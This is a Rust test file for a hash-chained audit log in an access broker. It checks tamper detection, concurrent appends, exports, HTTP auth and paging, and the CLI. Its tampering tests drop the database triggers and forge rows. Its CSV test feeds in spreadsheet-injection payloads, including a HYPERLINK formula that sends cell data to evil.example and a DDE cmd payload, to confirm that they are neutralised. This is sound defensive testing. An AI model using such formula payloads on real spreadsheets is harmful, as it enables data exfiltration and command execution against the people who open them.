//! The audit log: appends in the caller's transaction, one chain under concurrency, tamper
//! detection, exports that re-verify on their own, the HTTP API's auth and paging, and the CLI.

use std::collections::HashMap;

use jit_broker::audit::export::{export, ExportFormat, ExportRow};
use jit_broker::audit::{self, NewEntry, RawEntry, GENESIS_HASH};
use jit_broker::clock::Clock;
use jit_broker::error::ErrorBody;
use jit_broker::store::{Backend, Store};
use serde_json::json;

use crate::helpers::*;

fn entry(i: usize) -> NewEntry {
    NewEntry::new(
        format!("tester-{}", i % 3),
        "grant.activated",
        format!("grant:{i}"),
        // Awkward content on purpose: quotes, commas, newlines, backslashes, an escaped NUL,
        // unicode, nested objects, numbers.
        json!({"i": i, "reason": "on-call, \"sev1\"\nline two ✓ C:\\ops\t\u{0}", "z": {"b": [1, 2.5, null], "a": true}}),
    )
}

async fn append_n(store: &Store, n: usize) {
    let clock = Clock::system();
    for i in 0..n {
        audit::append_now(store, &clock, entry(i)).await.unwrap();
    }
}

async fn append_and_verify(db: Db) {
    let (_db, store) = fresh_store(db).await;
    let report = audit::verify(&store).await.unwrap();
    assert!(report.ok());
    assert_eq!(report.entries, 0);

    append_n(&store, 10).await;
    let report = audit::verify(&store).await.unwrap();
    assert!(report.ok(), "{report:?}");
    assert_eq!((report.entries, report.head_seq), (10, 10));

    // An append whose transaction rolls back leaves no entry and no gap (I6).
    let clock = Clock::system();
    let mut tx = store.begin().await.unwrap();
    audit::append(&mut tx, &clock, entry(99)).await.unwrap();
    tx.rollback().await.unwrap();
    audit::append_now(&store, &clock, entry(11)).await.unwrap();
    let report = audit::verify(&store).await.unwrap();
    assert!(report.ok(), "{report:?}");
    assert_eq!(report.entries, 11);
    let page = audit::page(&store, 0, 100, None, None).await.unwrap();
    assert_eq!(page[0].prev_hash, GENESIS_HASH);
    assert_eq!(page[10].subject, "grant:11");
}

async fn entries_are_append_only_in_the_engine(db: Db) {
    let (_db, store) = fresh_store(db).await;
    append_n(&store, 2).await;
    let upd = sqlx::query("UPDATE audit_log SET actor = 'x' WHERE seq = 1")
        .execute(store.pool())
        .await;
    assert!(upd.is_err(), "update must be refused");
    let del = sqlx::query("DELETE FROM audit_log WHERE seq = 2")
        .execute(store.pool())
        .await;
    assert!(del.is_err(), "delete must be refused");
    assert!(audit::verify(&store).await.unwrap().ok());
}

/// What an attacker with database access does first.
async fn drop_append_only_triggers(store: &Store) {
    let stmts: &[&str] = match store.backend() {
        Backend::Sqlite => &[
            "DROP TRIGGER audit_log_no_update",
            "DROP TRIGGER audit_log_no_delete",
        ],
        Backend::Postgres => &["DROP TRIGGER audit_log_no_change ON audit_log"],
    };
    for s in stmts {
        sqlx::query(s).execute(store.pool()).await.unwrap();
    }
}

async fn tampered(db: Db, attack: &[&str]) -> audit::Broken {
    let (_db, store) = fresh_store(db).await;
    append_n(&store, 6).await;
    drop_append_only_triggers(&store).await;
    for s in attack {
        sqlx::query(s).execute(store.pool()).await.unwrap();
    }
    let report = audit::verify(&store).await.unwrap();
    report.first_broken.expect("tampering must be detected")
}

async fn tampering_is_detected(db: Db) {
    // Altering a field.
    let b = tampered(
        db,
        &["UPDATE audit_log SET actor = 'mallory' WHERE seq = 3"],
    )
    .await;
    assert_eq!(b.seq, 3);
    assert!(b.reason.contains("altered"), "{}", b.reason);

    // Re-serialising the JSON without changing its meaning still breaks the hash.
    let b = tampered(
        db,
        &["UPDATE audit_log SET details = replace(details, ':', ': ') WHERE seq = 4"],
    )
    .await;
    assert_eq!(b.seq, 4);

    // Changing only the time.
    let b = tampered(
        db,
        &["UPDATE audit_log SET at_ms = at_ms - 1000 WHERE seq = 2"],
    )
    .await;
    assert_eq!(b.seq, 2);

    // Deleting a row in the middle names the missing entry.
    let b = tampered(db, &["DELETE FROM audit_log WHERE seq = 3"]).await;
    assert_eq!(b.seq, 3);
    assert!(b.reason.contains("missing"), "{}", b.reason);

    // Deleting the newest rows is caught by the head.
    let b = tampered(db, &["DELETE FROM audit_log WHERE seq >= 5"]).await;
    assert_eq!(b.seq, 5);
    assert!(b.reason.contains("removed from the end"), "{}", b.reason);

    // Swapping two rows' contents (keeping the numbering) breaks at the first of them.
    let swap = [
        "UPDATE audit_log SET seq = -2 WHERE seq = 2",
        "UPDATE audit_log SET seq = 2 WHERE seq = 3",
        "UPDATE audit_log SET seq = 3 WHERE seq = -2",
    ];
    let b = tampered(db, &swap).await;
    assert_eq!(b.seq, 2);

    // Swapping contents and renumbering consistently still fails: the hash covers `seq`.
    let swap_all = [
        "UPDATE audit_log SET seq = -4 WHERE seq = 4",
        "UPDATE audit_log SET seq = 4 WHERE seq = 5",
        "UPDATE audit_log SET seq = 5 WHERE seq = -4",
        "UPDATE audit_log SET prev_hash = (SELECT hash FROM audit_log WHERE seq = 3) WHERE seq = 4",
    ];
    let b = tampered(db, &swap_all).await;
    assert_eq!(b.seq, 4);
}

/// Several tasks on two "replicas" (separate pools) append at once: one gap-free chain.
async fn concurrent_appenders_form_one_chain(db: Db) {
    let (test_db, store) = fresh_store(db).await;
    let replica2 = Store::connect(&base_config(&test_db).database)
        .await
        .unwrap();
    let per_task = 25;
    let mut handles = Vec::new();
    for t in 0..8 {
        let s = if t % 2 == 0 {
            store.clone()
        } else {
            replica2.clone()
        };
        handles.push(tokio::spawn(async move {
            let clock = Clock::system();
            for i in 0..per_task {
                audit::append_now(&s, &clock, entry(t * 1000 + i))
                    .await
                    .unwrap();
            }
        }));
    }
    for h in handles {
        h.await.unwrap();
    }
    let report = audit::verify(&store).await.unwrap();
    assert!(report.ok(), "{report:?}");
    assert_eq!(report.entries, 8 * per_task as u64);
    assert_eq!(report.head_seq, 8 * per_task as i64);
}

fn check_rows(rows: &[ExportRow]) {
    let mut prev = rows[0].prev_hash.clone();
    for (i, r) in rows.iter().enumerate() {
        let raw = RawEntry {
            seq: r.seq,
            at_ms: r.at_ms,
            actor: r.actor.clone(),
            action: r.action.clone(),
            subject: r.subject.clone(),
            details: r.details.clone(),
            prev_hash: r.prev_hash.clone(),
            hash: r.hash.clone(),
        };
        let expected = rows[0].seq + i as i64;
        assert!(
            audit::check_entry(&raw, expected, &prev).is_none(),
            "row {i}"
        );
        prev = r.hash.clone();
    }
}

/// Outsiders' text that a spreadsheet would run (a login, a display name, a subject): in the
/// CSV each such cell starts with `'`; the JSON Lines carry the original, and the chain
/// re-verifies from the CSV once that quote is removed.
async fn formula_cells_are_neutralised_in_the_csv_only(db: Db) {
    let (_db, store) = fresh_store(db).await;
    let clock = Clock::system();
    let risky = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
    ];
    for r in risky {
        audit::append_now(
            &store,
            &clock,
            NewEntry::new(r, "request.created", r, json!({"reason": r})),
        )
        .await
        .unwrap();
    }
    let mut jsonl = Vec::new();
    export(&store, None, None, ExportFormat::Jsonl, &mut jsonl)
        .await
        .unwrap();
    let originals: Vec<ExportRow> = String::from_utf8(jsonl)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let mut csv_bytes = Vec::new();
    export(&store, None, None, ExportFormat::Csv, &mut csv_bytes)
        .await
        .unwrap();
    let mut from_csv: Vec<ExportRow> = csv::Reader::from_reader(csv_bytes.as_slice())
        .deserialize()
        .map(|r| r.unwrap())
        .collect();
    assert_eq!(originals.len(), risky.len());
    for (i, r) in risky.iter().enumerate() {
        assert_eq!(originals[i].actor, *r);
        assert_eq!(originals[i].subject, *r);
        assert_eq!(from_csv[i].actor, format!("'{r}"), "{r:?}");
        assert_eq!(from_csv[i].subject, format!("'{r}"), "{r:?}");
        // Cells that start with `{`, a hash or a number are left alone.
        assert_eq!(from_csv[i].details, originals[i].details);
        assert_eq!(from_csv[i].hash, originals[i].hash);
        assert_eq!(from_csv[i].action, "request.created");
    }
    check_rows(&originals);
    for row in &mut from_csv {
        row.actor = row.actor.strip_prefix('\'').unwrap().to_string();
        row.subject = row.subject.strip_prefix('\'').unwrap().to_string();
    }
    check_rows(&from_csv);
}

async fn export_round_trips(db: Db) {
    let (_db, store) = fresh_store(db).await;
    append_n(&store, 20).await;
    let stored = audit::page(&store, 0, 100, None, None).await.unwrap();

    let mut jsonl = Vec::new();
    let n = export(&store, None, None, ExportFormat::Jsonl, &mut jsonl)
        .await
        .unwrap();
    assert_eq!(n, 20);
    let from_jsonl: Vec<ExportRow> = String::from_utf8(jsonl)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();

    let mut csv_bytes = Vec::new();
    export(&store, None, None, ExportFormat::Csv, &mut csv_bytes)
        .await
        .unwrap();
    let from_csv: Vec<ExportRow> = csv::Reader::from_reader(csv_bytes.as_slice())
        .deserialize()
        .map(|r| r.unwrap())
        .collect();

    assert_eq!(from_jsonl, from_csv);
    assert_eq!(from_jsonl.len(), 20);
    assert_eq!(from_jsonl[0].prev_hash, GENESIS_HASH);
    check_rows(&from_jsonl);
    for (row, e) in from_jsonl.iter().zip(&stored) {
        assert_eq!(row.hash, e.hash);
        assert_eq!(
            serde_json::from_str::<serde_json::Value>(&row.details).unwrap(),
            e.details
        );
    }

    // A time window exports a contiguous slice that still verifies from its first prev_hash.
    let since = stored[5].at_ms;
    let until = stored[15].at_ms;
    let mut part = Vec::new();
    export(
        &store,
        Some(since),
        Some(until),
        ExportFormat::Jsonl,
        &mut part,
    )
    .await
    .unwrap();
    let part: Vec<ExportRow> = String::from_utf8(part)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(!part.is_empty());
    assert!(part.iter().all(|r| r.at_ms >= since && r.at_ms < until));
    check_rows(&part);
}

async fn http_audit_pages_for_auditors(db: Db) {
    let app = spawn_app(db).await;
    let store = app.store().await;
    append_n(&store, 7).await;

    let get = |q: &str, token: Option<&str>| {
        let mut r = app.http.get(app.url(&format!("/v1/audit{q}")));
        if let Some(t) = token {
            r = r.bearer_auth(t);
        }
        r.send()
    };
    // Who may read.
    let r = get("", None).await.unwrap();
    assert_eq!(r.status(), 401);
    assert_eq!(r.json::<ErrorBody>().await.unwrap().code, "unauthenticated");
    let r = get("", Some("not-a-token")).await.unwrap();
    assert_eq!(r.status(), 401);
    assert_eq!(r.json::<ErrorBody>().await.unwrap().code, "invalid_token");
    for t in [REQUESTER_TOKEN, APPROVER_TOKEN] {
        let r = get("", Some(t)).await.unwrap();
        assert_eq!(r.status(), 403);
        assert_eq!(r.json::<ErrorBody>().await.unwrap().code, "forbidden");
    }
    assert_eq!(get("", Some(ADMIN_TOKEN)).await.unwrap().status(), 200);

    // Paging: 3 + 3 + 1.
    let mut after = 0;
    let mut seqs = Vec::new();
    loop {
        let r = get(&format!("?limit=3&after={after}"), Some(AUDITOR_TOKEN))
            .await
            .unwrap();
        assert_eq!(r.status(), 200);
        let page: serde_json::Value = r.json().await.unwrap();
        for e in page["entries"].as_array().unwrap() {
            seqs.push(e["seq"].as_i64().unwrap());
        }
        match page["next_after"].as_i64() {
            Some(n) => after = n,
            None => break,
        }
    }
    assert_eq!(seqs, (1..=7).collect::<Vec<_>>());

    // Malformed parameters: 400 with a stable code, never a 500.
    let mut codes = HashMap::new();
    for q in [
        "?limit=abc",
        "?limit=0",
        "?limit=100000",
        "?after=-1",
        "?since=yesterday",
        "?until=2026-13-01T00:00:00Z",
        "?bogus=1",
        "?since=2026-02-01T00:00:00Z&until=2026-01-01T00:00:00Z",
    ] {
        let r = get(q, Some(AUDITOR_TOKEN)).await.unwrap();
        assert_eq!(r.status(), 400, "{q}");
        let body: ErrorBody = r.json().await.unwrap();
        codes.insert(q, body.code);
    }
    assert_eq!(codes["?limit=0"], "invalid_limit");
    assert_eq!(codes["?after=-1"], "invalid_after");
    assert_eq!(codes["?limit=abc"], "invalid_query");
    assert_eq!(
        codes["?since=2026-02-01T00:00:00Z&until=2026-01-01T00:00:00Z"],
        "invalid_range"
    );
    // Issue 22: a bad time says which formats are accepted; a plain date is one of them.
    assert_eq!(codes["?since=yesterday"], "invalid_time");
    let r = get("?since=yesterday", Some(AUDITOR_TOKEN)).await.unwrap();
    let body: ErrorBody = r.json().await.unwrap();
    assert!(
        body.message.contains("`yesterday`")
            && body.message.contains("2026-01-31")
            && body.message.contains("RFC 3339"),
        "{}",
        body.message
    );
    let r = get("?since=2000-01-01&until=2999-12-31", Some(AUDITOR_TOKEN))
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let page: serde_json::Value = r.json().await.unwrap();
    assert_eq!(page["entries"].as_array().unwrap().len(), 7, "{page}");
    app.stop().await.unwrap();
}

async fn cli_verify_and_export(db: Db) {
    let (test_db, store) = fresh_store(db).await;
    append_n(&store, 5).await;
    let run = |args: &[&str]| {
        broker_cmd()
            .env("JIT_DATABASE__URL", &test_db.url)
            .args(args)
            .output()
            .unwrap()
    };
    let out = run(&["audit", "verify"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert!(String::from_utf8_lossy(&out.stdout).contains("intact: 5 entries"));

    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("audit.csv");
    let out = run(&[
        "audit",
        "export",
        "--format",
        "csv",
        "--since",
        "2000-01-01T00:00:00Z",
        "--output",
        file.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let rows: Vec<ExportRow> = csv::Reader::from_path(&file)
        .unwrap()
        .deserialize()
        .map(|r| r.unwrap())
        .collect();
    assert_eq!(rows.len(), 5);
    check_rows(&rows);

    let out = run(&[
        "audit",
        "export",
        "--since",
        "2030-01-01T00:00:00Z",
        "--until",
        "2020-01-01T00:00:00Z",
    ]);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    // A date is a time too; a bad one names the formats.
    let out = run(&["audit", "export", "--since", "2000-01-01"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert_eq!(String::from_utf8_lossy(&out.stdout).lines().count(), 5);
    let out = run(&["audit", "export", "--since", "last week"]);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("RFC 3339") && err.contains("2026-01-31"),
        "{err}"
    );

    drop_append_only_triggers(&store).await;
    sqlx::query("UPDATE audit_log SET subject = 'grant:forged' WHERE seq = 4")
        .execute(store.pool())
        .await
        .unwrap();
    let out = run(&["audit", "verify"]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("BROKEN at entry 4"),
        "{out:?}"
    );
}

async fn append_many_continues_the_chain(db: Db) {
    // Batches of many sizes (one INSERT carries a whole batch as JSON), between single appends:
    // the result is one chain, as if every entry had been appended alone, and each returned
    // entry is what was stored, byte for byte.
    let (_db, store) = fresh_store(db).await;
    let clock = Clock::system();
    append_n(&store, 2).await;
    let mut returned = Vec::new();
    for size in [45_usize, 1, 3, 0, 300] {
        let mut tx = store.begin().await.unwrap();
        let got = audit::append_many(&mut tx, &clock, (0..size).map(entry).collect())
            .await
            .unwrap();
        tx.commit().await.unwrap();
        assert_eq!(got.len(), size);
        returned.extend(got);
        append_n(&store, 1).await;
    }
    let report = audit::verify(&store).await.unwrap();
    assert!(report.ok(), "{report:?}");
    assert_eq!(report.entries, 2 + 349 + 5);
    let page = audit::page(&store, 0, 1000, None, None).await.unwrap();
    for e in &returned {
        let stored = page.iter().find(|p| p.seq == e.seq).unwrap();
        assert_eq!(stored, e);
    }
    // A rolled-back batch leaves nothing behind.
    let mut tx = store.begin().await.unwrap();
    audit::append_many(&mut tx, &clock, (0..5).map(entry).collect())
        .await
        .unwrap();
    tx.rollback().await.unwrap();
    let again = audit::verify(&store).await.unwrap();
    assert!(again.ok());
    assert_eq!(again.entries, report.entries);
}

both_backends!(
    append_many_continues_the_chain,
    append_and_verify,
    entries_are_append_only_in_the_engine,
    tampering_is_detected,
    concurrent_appenders_form_one_chain,
    export_round_trips,
    formula_cells_are_neutralised_in_the_csv_only,
    http_audit_pages_for_auditors,
    cli_verify_and_export
);
